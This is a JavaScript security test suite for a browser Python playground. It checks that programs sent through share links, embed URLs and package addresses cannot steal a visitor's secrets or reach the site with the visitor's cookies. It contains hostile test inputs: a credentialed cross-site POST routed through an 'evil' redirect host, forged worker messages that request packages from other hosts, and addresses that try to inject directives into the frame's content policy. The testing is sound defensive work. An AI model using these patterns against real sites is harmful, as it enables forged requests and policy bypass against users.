// The same program in the ways in which a stranger sends it, and with hosts that it names itself. Chromium only.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { newPage, openSite, runPanel, waitForCode } from './browser.mjs';
import { attackProgram, openSecrets, plant, reportProgram, secret } from './hostile.mjs';
import { makeWheel } from './package-index.mjs';
import { importSource } from './source.mjs';

const { makeLink } = await importSource('share/link.ts');
const wheel = (name) => makeWheel(name, '1.0', { [`${name}.py`]: 'value = 7\n' });
const wheelPage = (bytes) => (_, response) => response.setHeader('access-control-allow-origin', '*').end(bytes);

const notedWheel = (request, response) => {
  site.visits.push(`${request.method} ${request.url}${request.headers.cookie ? ' as the reader' : ''}`);
  response.end(wheel('ours').bytes);
};
const site = await openSecrets({ [`/${wheel('ours').file}`]: notedWheel });
const passOn = (_, response) => response.writeHead(307, { location: `${site.url}/change` }).end();
const evil = await openSite({
  pages: { [`/${wheel('theirs').file}`]: wheelPage(wheel('theirs').bytes), '/leap': passOn },
});
// Another host: cookies and the policy of the frame know no ports.
const evilUrl = evil.url.replace('127.0.0.1', 'localhost');

/** A page at `path` for a reader whom the site knows and whose secrets it keeps; `use` gets it when its panel is there. */
async function visit(path, use) {
  const page = await newPage();
  await page.goto(`${site.url}/lesson.html`);
  await page.evaluate(plant, secret);
  await page.goto('about:blank');
  await page.goto(site.url + path);
  await waitForCode(page, 'attacked');
  site.visits.length = evil.asked.length = 0;
  await use(page);
  await page.close();
}

/** What came of the attack that has just run in the worker that a program with this head gets. */
async function spoils(page, head) {
  await new Promise((done) => setTimeout(done, 3000));
  const { stdout, stderr } = await runEdited(page, head + reportProgram);
  assert.equal(stderr, '');
  return JSON.parse(stdout);
}

/** Runs a program in the worker of the one before, which only the reader's changes do. */
function runEdited(page, code) {
  return page.evaluate((code) => {
    const panel = document.querySelector('unroll-panel');
    panel.edit(code);
    return panel.run();
  }, code);
}

async function withstand(page, { visits = [], head = '' } = {}) {
  const { stdout, stderr } = await runPanel(page);
  assert.match(stdout, /attacked/, stderr);
  const tried = await spoils(page, head);
  assert.ok(Object.keys(tried).length > 25);
  assert.ok(!JSON.stringify(tried).includes(secret), JSON.stringify(tried));
  assert.match(tried.post, /^refused/);
  assert.deepEqual(site.visits, visits);
  return tried;
}

const linkOf = async (code, settings = {}) => new URL(await makeLink({ code, files: {}, settings }, site.url)).hash;

test('a program in a link to the playground gets nothing of the site', async () => {
  await visit(`/${await linkOf(attackProgram(site.url))}`, (page) => withstand(page));
});

test('nor does one in the address of embed.html', async () => {
  const code = encodeURIComponent(attackProgram(site.url));
  await visit(`/embed.html?autorun#code=${code}`, (page) => withstand(page));
});

/** A block that asks for packages at these addresses. */
const asking = (...addresses) =>
  ['# /// script', `# dependencies = ${JSON.stringify(addresses)}`, '# ///', ''].join('\n');

/** Asks a host of the program's own to pass a request on to the site. */
const leap = (url) => `
from pyodide.code import run_js
run_js("""(async () => { try {
  await fetch('${url}/leap', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' });
} catch {} })()""")
`;

test('packages at addresses open no way to the site, which the page asks for wheels itself, as nobody', async () => {
  const { file } = wheel('ours');
  const own = `${site.url}/${file}`;
  const theirs = `${evilUrl}/${wheel('theirs').file}`;
  const head = asking(own, theirs);
  const code = `${head}import ours, theirs\nprint(ours.value + theirs.value)\n${leap(evilUrl)}`;
  const link = await linkOf(code + attackProgram(site.url));
  await visit(`/${link}`, async (page) => {
    await withstand(page, { head, visits: [`GET /${file}`] });
    assert.ok(evil.asked.includes('/leap'));
  });
});

test('an address of the site that is no wheel is not asked for, and the run says what is missing', async () => {
  const link = await linkOf(`${asking(`${site.url}/secret`)}print("attacked")`);
  await visit(`/${link}`, async (page) => {
    const { stdout, stderr } = await runPanel(page);
    assert.equal(stdout, '');
    assert.match(stderr, /The package .*secret could not be loaded: /);
    assert.deepEqual(site.visits, []);
  });
});

test('an address says nothing more to the policy of the frame than its host', async () => {
  for (const address of [`https://*/x.whl`, `https://a;script-src/x.whl`, `https://a,b/x.whl`]) {
    const link = await linkOf(`${attackProgram(site.url)}\n${leap(evilUrl)}`, { packages: [address, 'tqdm'] });
    await visit(`/${link}`, async (page) => {
      await runPanel(page);
      assert.deepEqual([site.visits, evil.asked.filter((path) => path === '/leap')], [[], []], address);
    });
  }
});

test('what a program says that it needs, without a word of it in its text, opens no host', async () => {
  const forged = `
import time
from pyodide.code import run_js
if time.time() < ${Date.now() / 1000 + 20}:
    run_js("""
    const needs = ['local' + 'host:' + ${new URL(evil.url).port}, '127.0.' + '0.1:' + ${new URL(site.url).port}].map((host) =>
      ({ package: 'http:' + '//' + host + '/x.whl', used: null, small: false, optional: true }));
    for (let id = 0; id < 9; id++) self.postMessage({ type: 'needs', id, needs });""")
    time.sleep(60)
`;
  const link = await linkOf(
    forged +
      leap(evilUrl).replace(evilUrl, evilUrl.replace('localhost', "' + 'localhost' + '")) +
      attackProgram(site.url),
  );
  await visit(`/${link}`, async (page) => {
    await withstand(page);
    assert.ok(!evil.asked.includes('/leap'));
  });
});
